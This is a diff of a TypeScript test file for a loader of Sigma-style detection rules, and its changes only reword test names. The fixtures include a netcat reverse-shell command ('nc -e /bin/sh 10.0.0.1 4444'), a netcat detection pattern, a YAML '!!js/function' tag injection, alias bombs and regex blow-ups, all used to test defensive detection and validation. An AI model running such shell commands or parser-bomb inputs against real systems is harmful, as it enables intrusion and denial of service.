@@ -23,7 +23,7 @@ const problemOf = (written: string): string => {
 };
 
 describe('a detection file', () => {
-  it('is a rule whose version does not change with fixtures, order or comments', () => {
+  it('is a rule whose version does not depend on fixtures, key order or comments', () => {
     const version = (written: string) => {
       const parsed = parseDetection(written, 'x.yaml', TOOLS);
       if ('reason' in parsed) throw new Error(parsed.reason);
@@ -40,23 +40,23 @@ describe('a detection file', () => {
   });
 
   it.each([
-    { name: 'what is no YAML', written: 'id: [1, 2\ntitle: x', says: /^x\.yaml:2: / },
-    { name: 'a tag of its own', written: text.replace('title: ', 'title: !!js/function '), says: /^x\.yaml:1: .*tag/ },
+    { name: 'invalid YAML', written: 'id: [1, 2\ntitle: x', says: /^x\.yaml:2: / },
+    { name: 'a custom tag', written: text.replace('title: ', 'title: !!js/function '), says: /^x\.yaml:1: .*tag/ },
     { name: 'two documents', written: `${text}---\n${text}`, says: /^x\.yaml:\d+: .*document/ },
-    { name: 'a key twice', written: `${text}\nseverity: low\n`, says: /unique/ },
+    { name: 'a duplicate key', written: `${text}\nseverity: low\n`, says: /unique/ },
     {
-      name: 'aliases that blow up',
+      name: 'aliases that expand to a huge document',
       written: `a: &a [x, x, x, x, x, x, x, x, x, x]\nb: &b [${'*a, '.repeat(30)}]\nc: [${'*b, '.repeat(30)}]\n`,
       says: /alias/i,
     },
     { name: 'a misspelt key', written: text.replace('severity: medium', 'sevrity: medium'), says: /severity|sevrity/ },
     {
-      name: 'a bad value, by its line',
+      name: 'a bad value, with its line',
       written: text.replace('severity: medium', 'severity: terrible'),
       says: new RegExp(`^x\\.yaml:${lineOf('severity')}: severity`),
     },
     {
-      name: 'a bad selection, by its line',
+      name: 'a bad selection, with its line',
       written: text.replace('commandLine: "*sudo*"', 'commandLine|nosuch: "*sudo*"'),
       says: new RegExp(`^x\\.yaml:${lineOf('commandLine: "')}: sigma\\.selection`),
     },
@@ -66,7 +66,7 @@ describe('a detection file', () => {
       says: /comandLine/,
     },
     {
-      name: 'expressions that blow up, by their line',
+      name: 'expressions that expand to a huge rule, with their line',
       written: text.replace(
         'commandLine: "*sudo*"',
         `commandLine|re: [${Array.from({ length: 4000 }, (_, i) => `"(a|b|c|d){1,200}z${i}"`).join(', ')}]`,
@@ -75,12 +75,12 @@ describe('a detection file', () => {
     },
     { name: 'a list', written: '- 1\n- 2\n', says: /^x\.yaml:1: / },
     { name: 'nothing', written: '', says: /^x\.yaml:1: / },
-    { name: 'nesting without end', written: '['.repeat(100_000), says: /^x\.yaml:\d+: / },
-  ])('refuses $name', ({ written, says }) => {
+    { name: 'endless nesting', written: '['.repeat(100_000), says: /^x\.yaml:\d+: / },
+  ])('rejects $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
   });
 
-  it('has a bad fixture told by its line', () => {
+  it('reports a bad fixture with its line', () => {
     const broken = stringify({
       ...sudo,
       fixtures: { ...fixtures, quiet: [{ commandLine: 'w' }, { comandLine: 'v' }] },
@@ -128,7 +128,7 @@ describe('a Sigma file, unchanged', () => {
     expect(alerts('echo "nc -e /bin/sh"')).toEqual([]);
   });
 
-  it.each(['deprecated', 'unsupported'])('is loaded and judges nothing when it is %s', (status) => {
+  it.each(['deprecated', 'unsupported'])('is loaded and not evaluated when it is %s', (status) => {
     const parsed = parseDetection(SIGMA.replace('status: test', `status: ${status}`), 'nc.yml', TOOLS);
     if ('reason' in parsed) throw new Error(parsed.reason);
     const events = eventsOf(Fixture.parse({ commandLine: 'nc -e /bin/sh 10.0.0.1 4444' }), TOOLS.hash128);
@@ -149,7 +149,7 @@ describe('a Sigma file, unchanged', () => {
       requires: [['networkHost', 'commandLine'], 'networkProtocol'],
     },
     {
-      name: 'a rule for names looked up',
+      name: 'a DNS rule',
       category: 'dns_query',
       selection: '{ QueryName: x.example }',
       requires: [['networkHost', 'commandLine']],
@@ -161,12 +161,12 @@ describe('a Sigma file, unchanged', () => {
       requires: [['filePath', 'commandLine']],
     },
     {
-      name: 'what has to be absent',
+      name: 'a condition on absence',
       category: 'process_creation',
       selection: '{ CommandLine: x, cwd: null }',
       requires: ['commandLine'],
     },
-  ])('requires what its events must have: $name', ({ category, selection, requires }) => {
+  ])('requires the fields that its events must have: $name', ({ category, selection, requires }) => {
     const written = SIGMA.replace('process_creation', category).replace(
       /selection:\n.*\n.*\n.*selection$/m,
       `selection: ${selection}\n  filter: { mcpServer: notes }\n  condition: selection and not filter`,
@@ -178,22 +178,22 @@ describe('a Sigma file, unchanged', () => {
 
   it.each([
     {
-      name: 'a source that agents do not have',
+      name: 'a log source that agents do not have',
       written: SIGMA.replace('process_creation', 'registry_set'),
       says: /^x\.yaml:9: logsource\.category/,
     },
     { name: 'a correlation', written: `${SIGMA}\ncorrelation: { type: event_count }\n`, says: /correlation/ },
     {
-      name: 'a modifier that is not Sigma',
+      name: 'a modifier that Sigma does not have',
       written: SIGMA.replace('Image|endswith', 'Image|endsin'),
       says: /^x\.yaml:12: /,
     },
     {
-      name: 'a status that is not Sigma',
+      name: 'a status that Sigma does not have',
       written: SIGMA.replace('status: test', 'status: unheard'),
       says: /^x\.yaml:4: status/,
     },
-  ])('is refused for $name', ({ written, says }) => {
+  ])('is rejected for $name', ({ written, says }) => {
     expect(problemOf(written)).toMatch(says);
   });
 });
@@ -211,17 +211,17 @@ describe('a folder of detections', () => {
   });
   afterAll(() => rm(folder, { recursive: true }));
 
-  it('gives what is sound, and says of the rest what is wrong', async () => {
+  it('returns the valid rules, and reports what is wrong with the others', async () => {
     const { detections, problems } = await loadDetections([folder], TOOLS);
     expect(detections.map(({ file, detection }) => [file, detection.id])).toEqual([['command/sudo.yaml', 'sudo-used']]);
     expect(problems.map(describeProblem)).toEqual([
       expect.stringMatching(/^broken\.yml:\d+: kind/),
-      'huge.yaml: 300000 bytes, at most 262144 are read',
-      'sudo-again.yaml:1: id sudo-used is taken by command/sudo.yaml',
+      'huge.yaml: the file has 300000 bytes; the limit is 262144',
+      'sudo-again.yaml:1: id sudo-used is already used by command/sudo.yaml',
     ]);
   });
 
-  it('stops where all its rules together grow too large', async () => {
+  it('stops when all its rules together grow too large', async () => {
     const large = await mkdtemp(join(tmpdir(), 'vigil-detections-'));
     const expressions = Array.from({ length: 40 }, (_, i) => `'(a|b|c|d){1,200}z${i}'`).join(', ');
     const sigma = SIGMA.replace('CommandLine|contains', 'CommandLine|re').replace("' -e ', ' -c '", expressions);
@@ -229,7 +229,7 @@ describe('a folder of detections', () => {
       await writeFile(join(large, `${String(i).padStart(2, '0')}.yaml`), sigma.replace(/^id:.*$/m, `id: rule-${i}`));
     const { detections, problems } = await loadDetections([large], TOOLS);
     expect(detections).toHaveLength(13);
-    expect(problems.map(describeProblem)).toEqual([expect.stringMatching(/^13\.yaml: .*over 1000000 parts/)]);
+    expect(problems.map(describeProblem)).toEqual([expect.stringMatching(/^13\.yaml: .*above 1000000 parts/)]);
     await rm(large, { recursive: true });
   });
 
